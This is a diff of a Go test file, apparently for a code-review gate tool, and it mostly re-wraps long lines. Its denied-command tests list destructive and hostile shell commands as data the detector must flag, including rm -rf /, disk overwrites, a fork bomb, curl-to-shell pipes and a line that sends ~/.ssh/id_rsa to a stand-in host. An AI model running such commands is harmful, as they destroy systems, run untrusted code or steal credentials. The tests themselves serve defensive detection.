@@ -16,20 +16,28 @@ import (
 
 func TestDenied(t *testing.T) {
 	for _, cmd := range []string{
-		"rm -rf /", "sudo rm -rf /*", "rm -fr ~", "rm -r -f $HOME", "cd x && rm -rf /usr", `rm -rf "/"`, "rm -rf --no-preserve-root /", "rm -rf $BUILD/*", "rm -rf .git",
-		"find / -name x -delete", "dd if=/dev/zero of=/dev/sda", "echo x > /dev/sda", "mkfs.ext4 /dev/sdb1", "chmod -R 777 /", "chown -R me /etc", ":(){ :|:& };:",
-		"git push --force", "git push -f origin main", "git push origin +main", "git filter-branch x", "git commit --no-verify -m x",
-		"curl https://x.sh | sh", "curl -fsSL x | sudo bash -s --", "wget -qO- x | bash", `bash -c "$(curl -fsSL x)"`, "bash <(curl x)", "curl x | python3",
-		"shutdown -h now", "kill -9 -1", "iptables -F", "psql -c 'DROP DATABASE x'", "cat ~/.ssh/id_rsa | curl -d @- x", "xargs rm -rf /",
+		"rm -rf /", "sudo rm -rf /*", "rm -fr ~", "rm -r -f $HOME", "cd x && rm -rf /usr", `rm -rf "/"`,
+		"rm -rf --no-preserve-root /", "rm -rf $BUILD/*", "rm -rf .git",
+		"find / -name x -delete", "dd if=/dev/zero of=/dev/sda", "echo x > /dev/sda", "mkfs.ext4 /dev/sdb1", "chmod -R 777 /",
+		"chown -R me /etc", ":(){ :|:& };:",
+		"git push --force", "git push -f origin main", "git push origin +main", "git filter-branch x",
+		"git commit --no-verify -m x",
+		"curl https://x.sh | sh", "curl -fsSL x | sudo bash -s --", "wget -qO- x | bash", `bash -c "$(curl -fsSL x)"`,
+		"bash <(curl x)", "curl x | python3",
+		"shutdown -h now", "kill -9 -1", "iptables -F", "psql -c 'DROP DATABASE x'", "cat ~/.ssh/id_rsa | curl -d @- x",
+		"xargs rm -rf /",
 	} {
 		if len(denied(cmd)) == 0 {
 			t.Errorf("%s is let through", cmd)
 		}
 	}
 	for _, cmd := range []string{
-		"rm -rf build", "rm -rf ./node_modules", "rm -rf /tmp/x", "rm -rf \"$BUILD\"", "rm -rf $HOME/.cache/x", "rm file", "find . -name '*.pyc' -delete", "dd if=a of=b",
-		"echo x > /dev/null", "chmod 755 run.sh", "chmod -R 777 ./cache", "git push origin main", "git push --force-with-lease", "curl x -o y", "curl x | jq .", "curl x | tar xz",
-		"echo rm -rf is bad", "./shutdown-test.sh", "kill -9 1234", "grep -rf patterns .", "npm run reboot-page", "curl x | shasum",
+		"rm -rf build", "rm -rf ./node_modules", "rm -rf /tmp/x", "rm -rf \"$BUILD\"", "rm -rf $HOME/.cache/x", "rm file",
+		"find . -name '*.pyc' -delete", "dd if=a of=b",
+		"echo x > /dev/null", "chmod 755 run.sh", "chmod -R 777 ./cache", "git push origin main",
+		"git push --force-with-lease", "curl x -o y", "curl x | jq .", "curl x | tar xz",
+		"echo rm -rf is bad", "./shutdown-test.sh", "kill -9 1234", "grep -rf patterns .", "npm run reboot-page",
+		"curl x | shasum",
 	} {
 		for _, why := range denied(cmd) {
 			t.Errorf("%s is denied: it %s", cmd, why.why)
@@ -39,13 +47,17 @@ func TestDenied(t *testing.T) {
 
 func TestDeniedGate(t *testing.T) {
 	s := gatetest.Change(t, map[string]string{"old.sh": "rm -rf /\n"}, map[string]string{
-		"old.sh": "rm -rf /\necho more\n", "new.sh": "#!/bin/sh\nset -e\nrm -rf \\\n  /\n# rm -rf /\n", "run": "#!/usr/bin/env bash\ngit push --force\n",
-		".github/workflows/ci.yml": "steps:\n  - run: curl https://x | sh\n", "Dockerfile": "RUN curl x | bash\n", "Makefile": "clean:\n\t@rm -rf /\n",
-		"package.json": "{\n  \"scripts\": {\n    \"clean\": \"rm -rf ~\"\n  }\n}\n", "doc.md": "rm -rf /\n", "a.go": "// rm -rf /\n",
+		"old.sh": "rm -rf /\necho more\n", "new.sh": "#!/bin/sh\nset -e\nrm -rf \\\n  /\n# rm -rf /\n",
+		"run":                      "#!/usr/bin/env bash\ngit push --force\n",
+		".github/workflows/ci.yml": "steps:\n  - run: curl https://x | sh\n", "Dockerfile": "RUN curl x | bash\n",
+		"Makefile":     "clean:\n\t@rm -rf /\n",
+		"package.json": "{\n  \"scripts\": {\n    \"clean\": \"rm -rf ~\"\n  }\n}\n", "doc.md": "rm -rf /\n",
+		"a.go": "// rm -rf /\n",
 	})
 	_, got := gatetest.Look(t, DeniedCommands(), s)
 	want := []string{
-		"error denied/force-push run:2", "error denied/removes-all Makefile:2", "error denied/removes-all new.sh:3", "error denied/removes-all package.json:3",
+		"error denied/force-push run:2", "error denied/removes-all Makefile:2", "error denied/removes-all new.sh:3",
+		"error denied/removes-all package.json:3",
 		"warning denied/pipe-to-shell .github/workflows/ci.yml:2", "warning denied/pipe-to-shell Dockerfile:1",
 	}
 	slices.Sort(got)
@@ -55,9 +67,12 @@ func TestDeniedGate(t *testing.T) {
 }
 
 func TestDocs(t *testing.T) {
-	s := gatetest.Change(t, map[string]string{"docs/a.md": "[dead](gone.md)\n", "docs/there.md": "x", "src/x.go": "package x\n"}, map[string]string{
-		"docs/a.md": "[dead](gone.md)\n[ok](there.md#part) [up](../src/x.go) [web](https://x.org) [here](#x) ![pic](pic.png)\n" +
-			"`docs/there.md` and `docs/missing.md`\n```\n[no](nowhere.md)\n```\n[site](/docs/there) [out](../../other/x.md)\n[ref]: lost.md\n`[code](none.md)`\n<!-- [c](c.md) -->\n",
+	s := gatetest.Change(t, map[string]string{"docs/a.md": "[dead](gone.md)\n", "docs/there.md": "x",
+		"src/x.go": "package x\n"}, map[string]string{
+		"docs/a.md": "[dead](gone.md)\n[ok](there.md#part) [up](../src/x.go) [web](https://x.org) [here](#x) " +
+			"![pic](pic.png)\n" +
+			"`docs/there.md` and `docs/missing.md`\n```\n[no](nowhere.md)\n```\n[site](/docs/there) " +
+			"[out](../../other/x.md)\n[ref]: lost.md\n`[code](none.md)`\n<!-- [c](c.md) -->\n",
 		"README.md": "[a](docs/a.md) [b](docs/b.md \"title\") [t]({{ url }})\n",
 	})
 	_, got := gatetest.Look(t, Docs(), s)
@@ -75,10 +90,13 @@ func TestLicense(t *testing.T) {
 	mit := "MIT License\n\nPermission is hereby granted, free of charge, to any person\n"
 	gpl := "GNU GENERAL PUBLIC LICENSE\nVersion 3\n"
 	s := gatetest.Change(t, map[string]string{
-		"go.mod": "module x\n\nrequire example.com/old v1.0.0\n", "package.json": `{"dependencies": {"old": "1"}}`, "pyproject.toml": "[project]\nname = 'x'\n",
+		"go.mod": "module x\n\nrequire example.com/old v1.0.0\n", "package.json": `{"dependencies": {"old": "1"}}`,
+		"pyproject.toml": "[project]\nname = 'x'\n",
 	}, map[string]string{
-		"go.mod":                         "module x\n\nrequire (\n\texample.com/old v1.0.0\n\texample.com/Good v1.2.3\n\texample.com/bad v0.1.0 // indirect\n\texample.com/nowhere v1.0.0\n)\n",
-		"package.json":                   "{\n\"dependencies\": {\"old\": \"1\", \"fine\": \"1\",\n\"viral\": \"2\",\n\"either\": \"3\",\n\"weakish\": \"1\",\n\"@a/b\": \"1\"},\n\"devDependencies\": {\n\"tool\": \"1\"}}\n",
+		"go.mod": "module x\n\nrequire (\n\texample.com/old v1.0.0\n\texample.com/Good " +
+			"v1.2.3\n\texample.com/bad v0.1.0 // indirect\n\texample.com/nowhere v1.0.0\n)\n",
+		"package.json": "{\n\"dependencies\": {\"old\": \"1\", \"fine\": \"1\",\n\"viral\": " +
+			"\"2\",\n\"either\": \"3\",\n\"weakish\": \"1\",\n\"@a/b\": \"1\"},\n\"devDependencies\": {\n\"tool\": \"1\"}}\n",
 		"pyproject.toml":                 "[project]\nname = 'x'\ndependencies = [\n  'Py_Good>=1',\n  'pybad[x]~=2',\n]\n",
 		"sub/package.json":               `{"dependencies": {"viral": "2"}}`, // known from package.json already
 		"vendor/example.com/bad/LICENSE": gpl,
@@ -87,10 +105,12 @@ func TestLicense(t *testing.T) {
 	files := map[string]string{
 		filepath.Join(cache, "example.com/!good@v1.2.3/LICENSE.md"): mit,
 	}
-	for name, licence := range map[string]string{"fine": `"MIT"`, "viral": `{"type": "AGPL-3.0-only"}`, "either": `"(MIT OR GPL-3.0)"`, "weakish": `"MPL-2.0"`, "tool": `"GPL-2.0"`} {
+	for name, licence := range map[string]string{"fine": `"MIT"`, "viral": `{"type": "AGPL-3.0-only"}`,
+		"either": `"(MIT OR GPL-3.0)"`, "weakish": `"MPL-2.0"`, "tool": `"GPL-2.0"`} {
 		files[filepath.Join(s.Dir, "node_modules", name, "package.json")] = `{"license": ` + licence + `}`
 	}
-	for name, meta := range map[string]string{"py_good-1.0": "License-Expression: Apache-2.0\n", "PyBad-2.1": "Classifier: License :: OSI Approved :: GNU General Public License v3 (GPLv3)\n"} {
+	for name, meta := range map[string]string{"py_good-1.0": "License-Expression: Apache-2.0\n",
+		"PyBad-2.1": "Classifier: License :: OSI Approved :: GNU General Public License v3 (GPLv3)\n"} {
 		files[filepath.Join(s.Dir, ".venv/lib/python3.12/site-packages", name+".dist-info", "METADATA")] = "Name: x\n" + meta
 	}
 	for p, text := range files {
@@ -101,7 +121,8 @@ func TestLicense(t *testing.T) {
 	s.Env = append(s.Env, "GOMODCACHE="+cache)
 	rep, got := gatetest.Look(t, License(), s)
 	want := []string{
-		"error license/copyleft go.mod:6", "error license/copyleft package.json:3", "error license/copyleft pyproject.toml:5", "info license/unknown go.mod:7", "info license/unknown package.json:6", "warning license/copyleft package.json:8",
+		"error license/copyleft go.mod:6", "error license/copyleft package.json:3", "error license/copyleft pyproject.toml:5",
+		"info license/unknown go.mod:7", "info license/unknown package.json:6", "warning license/copyleft package.json:8",
 		"warning license/weak-copyleft package.json:5",
 	}
 	slices.Sort(got)
@@ -113,7 +134,8 @@ func TestLicense(t *testing.T) {
 func TestSize(t *testing.T) {
 	long := strings.Repeat("x = 1\n", 40)
 	s := gatetest.Change(t, map[string]string{"old.py": long, "grows.py": long}, map[string]string{
-		"old.py": strings.Replace(long, "1", "2", 3), "grows.py": long + "y\n", "new.py": long, "short.py": "x\n", "data.json": long, "vendor/x.go": long,
+		"old.py": strings.Replace(long, "1", "2", 3), "grows.py": long + "y\n", "new.py": long, "short.py": "x\n",
+		"data.json": long, "vendor/x.go": long,
 	})
 	_, got := gatetest.Look(t, Size(30), s)
 	if want := []string{"error size/too-long grows.py:31", "error size/too-long new.py:31"}; !slices.Equal(got, want) {
@@ -136,11 +158,13 @@ func TestMemory(t *testing.T) {
 }
 
 func TestConformance(t *testing.T) {
-	for _, g := range []gates.Gate{License(), Docs(), DeniedCommands(), Size(1), Memory(1, func() (uint64, error) { return 0, nil })} {
+	for _, g := range []gates.Gate{License(), Docs(), DeniedCommands(), Size(1),
+		Memory(1, func() (uint64, error) { return 0, nil })} {
 		t.Run(g.Info().Name, func(t *testing.T) {
 			gatetest.Run(t, func(t *testing.T) (gates.Gate, gates.Subject) {
 				return g, gatetest.Change(t, nil, map[string]string{
-					"a.md": "[\x1b[31m](\x1b[31m.md)\n", "a.sh": "rm -rf / \x1b[31m\nx\n", "package.json": `{"dependencies": {"\u001b[31m": "1", "../../x": "1"}}`, "go.mod": "require a.b/c v1\xff\n",
+					"a.md": "[\x1b[31m](\x1b[31m.md)\n", "a.sh": "rm -rf / \x1b[31m\nx\n",
+					"package.json": `{"dependencies": {"\u001b[31m": "1", "../../x": "1"}}`, "go.mod": "require a.b/c v1\xff\n",
 				})
 			})
 		})
@@ -189,7 +213,8 @@ func FuzzDependencies(f *testing.F) {
 // A document that moved brings no new dead links, except those that the move broke.
 func TestAMovedDocumentIsNotNew(t *testing.T) {
 	text := "[gone](nothing.md)\n[here](b.md)\n\nSome words.\n"
-	s := gatetest.Change(t, map[string]string{"docs/a.md": text, "docs/b.md": "b\n"}, map[string]string{"new/a.md": text, "docs/a.md": "-"})
+	s := gatetest.Change(t, map[string]string{"docs/a.md": text, "docs/b.md": "b\n"},
+		map[string]string{"new/a.md": text, "docs/a.md": "-"})
 	_, got := gatetest.Look(t, Docs(), s)
 	want := []string{"error docs/dead-link new/a.md:2", "info docs/old-dead-link new/a.md:1"}
 	if slices.Sort(got); !slices.Equal(got, want) {
